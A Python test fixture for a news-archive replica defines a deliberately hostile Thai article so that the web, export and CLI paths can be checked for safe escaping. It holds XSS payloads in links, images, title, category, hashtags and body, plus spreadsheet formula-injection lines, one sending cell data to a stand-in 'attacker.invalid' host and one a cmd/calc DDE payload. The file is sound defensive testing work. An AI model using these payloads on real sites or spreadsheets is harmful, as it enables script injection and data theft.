"""Hostile detail pages for the replica (ids 2101-2199): what an archive must show, never run.

Written for this project. Article 2101 carries every trick the web, export and CLI must
survive: script-scheme links (``javascript:``, ``data:``, ``vbscript:``, a tab inside the
scheme, mixed case) as attachments and images, markup in the title, category and hashtags,
raw script/iframe markup inside the body, and body lines a spreadsheet would run as formulas.
It also has one honest attachment and image, which must stay clickable.

``HOSTILE_RECORD`` is the same article as an archive record *with* the hostile links, the way
an archive written before links were filtered at extraction may still hold it; the web tests
store it directly.
"""

from __future__ import annotations

from typing import Any

from tests.replica.fixtures import SITE_ORIGIN, FixtureArticle
from tests.replica.pages import detail_page

HOSTILE_ID = 2101
FIRST_HOSTILE_ID = 2101
LAST_HOSTILE_ID = 2199

SCRIPT_LINKS = (
    "javascript:alert(document.domain)//x.pdf",
    "data:text/html,<script>alert('data')</script>.pdf",
    "vbscript:msgbox('vbscript')//y.doc",
    "JaVaScRiPt:alert('mixed-case')//z.xls",
    "java\tscript:alert('tab')//w.zip",
)
SCRIPT_IMAGES = (
    "javascript:alert('image')",
    "vbscript:msgbox('image')",
)
SAFE_ATTACHMENT = "/FileUpload/Attach/2567/12/hostile-2101.pdf"
SAFE_IMAGE = "/FileUpload/Pictures/2567/12/hostile-2101.jpg"

TITLE = (
    '<script>alert("title")</script> ประกาศรับสมัครงานราชการ <img src=x onerror=alert("title-img")>'
)
CATEGORY = '<b onmouseover=alert("category")>ด้านความมั่นคง</b>'
HASHTAGS = ("#ไทยคู่ฟ้า", "#ข่าว<script>alert('tag')</script>")
#: Body lines a spreadsheet would run as formulas (some are ordinary text that happens to
#: start with + or -): OWASP's triggers =, +, -, @.
FORMULA_LINES = (
    '=HYPERLINK("http://attacker.invalid/?leak="&A1,"คลิกเพื่อดูรายละเอียด")',
    "+66 2 283 4000 ติดต่อสอบถามได้ในวันและเวลาราชการ",
    "-10% ค่าธรรมเนียมลดลงสำหรับผู้สมัครทุกราย",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)
PARAGRAPHS = (
    *FORMULA_LINES,
    "ผู้สนใจสามารถยื่นใบสมัครได้ที่ศูนย์ราชการทุกจังหวัด ตั้งแต่วันนี้เป็นต้นไป",
)
#: Raw markup inside the article body (not escaped in the page: real tags).
RAW_BODY_MARKUP = (
    "<p>ย่อหน้านี้มีโค้ด<script>alert('body-script')</script>"
    "<iframe src=\"javascript:alert('iframe')\"></iframe>"
    "<a href=\"javascript:alert('inline-link')\">ลิงก์ในเนื้อหา</a>"
    "<img src=x onerror=\"alert('body-img')\"></p>"
)

HOSTILE_ARTICLE = FixtureArticle(
    HOSTILE_ID,
    title=TITLE,
    category_html=CATEGORY + "\t",
    long_date="วันศุกร์ที่ 13 ธันวาคม 2567",
    numeric_date="13/12/2567",
    paragraphs=PARAGRAPHS,
    hashtags=HASHTAGS,
    images=(*SCRIPT_IMAGES, SAFE_IMAGE),
    attachments=(*SCRIPT_LINKS, SAFE_ATTACHMENT),
)
HOSTILE_ARTICLES: dict[int, FixtureArticle] = {HOSTILE_ID: HOSTILE_ARTICLE}


def hostile_page(article: FixtureArticle) -> str:
    """The article's detail page with the raw markup added to its body."""
    html = detail_page(article)
    end_of_body = html.rindex("</div>\n</div>")  # news-detail, then the article block
    return html[:end_of_body] + RAW_BODY_MARKUP + "\n" + html[end_of_body:]


def _absolute(ref: str) -> str:
    return SITE_ORIGIN + ref if ref.startswith("/") else ref


#: The article as an archive record holding every hostile link (see module docstring).
HOSTILE_RECORD: dict[str, Any] = {
    "article_id": HOSTILE_ID,
    "url": f"{SITE_ORIGIN}/news/contents/details/{HOSTILE_ID}",
    "title": TITLE,
    "category": CATEGORY,
    "lang": "th",
    "published_date_text": HOSTILE_ARTICLE.long_date,
    "published_date_numeric_text": HOSTILE_ARTICLE.numeric_date,
    "body": "\n".join((*PARAGRAPHS, " ".join(HASHTAGS))),
    "hashtags": list(HASHTAGS),
    "images": [_absolute(src) for src in HOSTILE_ARTICLE.images],
    "attachments": [_absolute(href) for href in HOSTILE_ARTICLE.attachments],
    "fetched_at": "2024-12-13T09:30:00+00:00",
    "source": "crawl",
    "published_date": "2024-12-13",
    "date_mentions": ["2024-12-13"],
    "date_warnings": [],
}
